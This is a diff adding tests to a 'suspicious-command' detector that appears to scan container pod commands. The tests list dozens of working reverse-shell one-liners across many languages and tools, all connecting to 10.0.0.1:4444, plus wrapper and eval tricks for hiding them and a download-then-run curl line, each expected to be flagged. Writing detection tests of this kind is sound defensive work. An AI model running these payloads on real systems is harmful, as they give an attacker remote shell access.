@@ -46,6 +46,114 @@ describe('suspicious-command finds', () => {
   });
 });
 
+/** A reverse shell in the words of many programs. */
+describe('suspicious-command finds a reverse shell', () => {
+  it.each([
+    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
+    ['bash -i > /dev/tcp/10.0.0.1/4444 0<&1 2>&1'],
+    ['0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196'],
+    ['exec 5<>/dev/tcp/10.0.0.1/4444;cat <&5 | while read line; do $line 2>&5 >&5; done'],
+    ['sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5'],
+    ['sh -i >& /dev/udp/10.0.0.1/4444 0>&1'],
+    ['zsh -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
+    ["zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"],
+    ['nc 10.0.0.1 4444 -e /bin/sh'],
+    ['nc -c sh 10.0.0.1 4444'],
+    ['nc.traditional -e /bin/bash 10.0.0.1 4444'],
+    ['busybox nc 10.0.0.1 4444 -e sh'],
+    ['ncat --udp 10.0.0.1 4444 -e sh'],
+    ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f'],
+    ['mknod /tmp/f p; nc 10.0.0.1 4444 0</tmp/f | /bin/sh 1>/tmp/f'],
+    ['nc 10.0.0.1 4444 | sh | nc 10.0.0.1 4445'],
+    ['telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445'],
+    ['TF=$(mktemp -u);mkfifo $TF && telnet 10.0.0.1 4444 0<$TF | sh 1>$TF'],
+    ["C='curl -Ns telnet://10.0.0.1:4444'; $C </dev/null 2>&1 | sh 2>&1 | $C >/dev/null"],
+    ['curl -Ns telnet://10.0.0.1:4444 | sh'],
+    ['mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s'],
+    ['socat TCP:10.0.0.1:4444 EXEC:sh'],
+    ["socat TCP:10.0.0.1:4444 EXEC:'sh',pty,stderr,setsid,sigint,sane"],
+    [`perl -e 'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("sh -i");'`],
+    [
+      `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
+    ],
+    [`php -r '$sock=fsockopen("10.0.0.1",4444);exec("sh <&3 >&3 2>&3");'`],
+    [`php -r '$sock=fsockopen("10.0.0.1",4444);shell_exec("sh <&3 >&3 2>&3");'`],
+    [`php -r '$sock=fsockopen("10.0.0.1",4444);passthru("sh <&3 >&3 2>&3");'`],
+    [`php -r '$sock=fsockopen("10.0.0.1",4444);popen("sh <&3 >&3 2>&3", "r");'`],
+    [
+      `python3 -c 'import os,pty,socket;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")'`,
+    ],
+    [
+      `export RHOST=10.0.0.1;python3 -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")'`,
+    ],
+    [`python3 -c "import os; os.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')"`],
+    [`python3 -c "import subprocess; subprocess.call('nc -e sh 10.0.0.1 4444', shell=True)"`],
+    [`ruby -rsocket -e'spawn("sh",[:in,:out,:err]=>TCPSocket.new("10.0.0.1",4444))'`],
+    [`ruby -e 'system("nc -e sh 10.0.0.1 4444")'`],
+    [`node -e 'require("child_process").exec("nc -e sh 10.0.0.1 4444")'`],
+    [
+      `node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("sh",[]);var c=new net.Socket();c.connect(4444,"10.0.0.1",function(){c.pipe(sh.stdin);});})();'`,
+    ],
+    [`lua -e "require('socket');t=socket.tcp();t:connect('10.0.0.1','4444');os.execute('sh -i <&3 >&3 2>&3');"`],
+    [
+      `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null`,
+    ],
+    [`awk 'BEGIN{system("nc -e sh 10.0.0.1 4444")}'`],
+    [
+      `echo 'set s [socket 10.0.0.1 4444];while 42 { puts -nonewline $s "shell>";flush $s;gets $s c;set e "exec $c";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;' | tclsh`,
+    ],
+    [`sqlite3 /dev/null '.shell rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f'`],
+    [
+      `echo 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","10.0.0.1:4444");cmd:=exec.Command("sh");cmd.Stdin=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go`,
+    ],
+    ['xterm -display 10.0.0.1:1'],
+    ['rcat connect -s sh 10.0.0.1 4444'],
+    [`pwsh -nop -c "$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);$s = $c.GetStream();iex $d"`],
+  ])('%s', (script) => {
+    expect(inShell(script)).toEqual(['error']);
+  });
+
+  const SHELL = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1';
+  it.each<[readonly string[]]>([
+    [['sh', '-c', SHELL]],
+    [['sh', '-c', '--', SHELL]],
+    [['sh', '-ce', SHELL]],
+    [['bash', '-c', '-e', SHELL]],
+    [['bash', '-c', '-o', 'pipefail', SHELL]],
+    [['bash', '-ceuo', 'pipefail', SHELL]],
+    [['bash', '--noprofile', '--norc', '-c', SHELL]],
+    [['bash', '--rcfile', '/x', '-ec', '--', SHELL]],
+    [['gosu', 'nobody', 'sh', '-c', SHELL]],
+    [['su-exec', '1000:1000', 'sh', '-c', SHELL]],
+    [['chroot', '/srv', 'sh', '-c', SHELL]],
+    [['chroot', '--userspec=1', '/srv', '/bin/sh', '-c', SHELL]],
+    [['nsenter', '-n', '-t', '77', '--', 'sh', '-c', SHELL]],
+    [['su', '-c', SHELL, 'nobody']],
+    [['su', 'nobody', '-s', '/bin/sh', '-c', SHELL]],
+    [['runuser', '-u', 'app', '--', 'sh', '-c', SHELL]],
+    [['tini', '--', 'sh', '-c', SHELL]],
+    [['tini', '-g', '-p', 'SIGTERM', '--', 'sh', '-c', '--', SHELL]],
+    [['dumb-init', '-r', '15:2', 'sh', '-c', SHELL]],
+    [['env', '-S', `sh -c '${SHELL}'`]],
+    [['env', '-u', 'HOME', 'A=b', 'sh', '-c', SHELL]],
+    [['flock', '/x', '-c', SHELL]],
+    [['watch', '-n', '5', SHELL]],
+    [['timeout', '-k', '5', '1h', 'sh', '-c', SHELL]],
+    [['busybox', 'sh', '-c', SHELL]],
+    [['find', '/', '-maxdepth', '0', '-exec', 'sh', '-c', SHELL, ';']],
+    [['python3', '-c', `import os; os.system('${SHELL}')`]],
+    [['sh', '-c', `trap '${SHELL}' EXIT`]],
+    [['sh', '-c', `eval "${SHELL}"`]],
+    [['sh', '-c', `eval ${SHELL.replace(/[>&]/g, '\\$&')}`]],
+    [['sh', '-c', `echo x | xargs -I{} sh -c '${SHELL}'`]],
+    [['sh', '-c', `(setsid sh -c '${SHELL}' &) `]],
+    [['sh', '-c', `f() { ${SHELL}; }; f`]],
+    [['sh', '-c', 'curl https://e.example/x > /tmp/f; sh /tmp/f']],
+  ])('%j', (words) => {
+    expect(see(podRunning(words), 'suspicious-command')).toHaveLength(1);
+  });
+});
+
 describe('suspicious-command leaves alone', () => {
   it.each([
     ['# curl https://e.example | sh'],
